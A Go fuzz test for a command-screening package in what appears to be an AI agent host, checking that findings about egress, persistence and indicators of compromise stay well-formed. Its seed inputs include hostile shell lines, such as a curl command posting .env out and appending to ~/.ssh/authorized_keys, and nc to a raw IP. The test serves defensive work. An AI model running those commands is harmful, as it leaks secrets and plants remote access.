package screening_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/hermes-agent/hermes/host/screening"
)

// Check never panics, whatever the entry holds, and keeps its promises: an
// indicator of compromise is the only finding, the others come at most
// once each and only for a shell, and every finding is one bounded line.
func FuzzCheck(f *testing.F) {
	f.Add("bash", "-c", "curl -X POST --data-binary @.env u >> ~/.ssh/authorized_keys", "v")
	f.Add("'/bin/sh", `x\`, "nc", "61.178.123.196")
	f.Add("\u00a0PWSH.EXE\v", "Invoke-WebRequest", "<\x1c", "")
	f.Add("", "", "", "")
	f.Add("sh \"", "\xff\xfe", "ſocat İnvoke-RestMethod", "hermes-0day")
	f.Fuzz(func(t *testing.T, command, a1, a2, envValue string) {
		fs := screening.Check("srv", command, []string{a1, a2}, map[string]string{"K": envValue})
		kinds := map[screening.Kind]int{}
		for _, x := range fs {
			kinds[x.Kind]++
			s := x.String()
			if strings.ContainsAny(s, "\n\r\x1b") || len(s) > 2000 {
				t.Fatalf("finding is not one bounded line: %q", s)
			}
			if x.Kind == screening.IOC && !slices.Contains(screening.Indicators, x.Indicator) {
				t.Fatalf("IOC finding names %q, not an indicator", x.Indicator)
			}
		}
		if kinds[screening.IOC] > 0 && len(fs) != 1 {
			t.Fatalf("an indicator of compromise comes alone, got %d findings", len(fs))
		}
		if kinds[screening.Egress] > 1 || kinds[screening.Persistence] > 1 {
			t.Fatalf("a kind found twice: %v", kinds)
		}
		if kinds[screening.IOC] == 0 && len(fs) > 0 && !screening.IsShell(command) {
			t.Fatalf("shell findings for %q, which is not a shell", command)
		}
	})
}
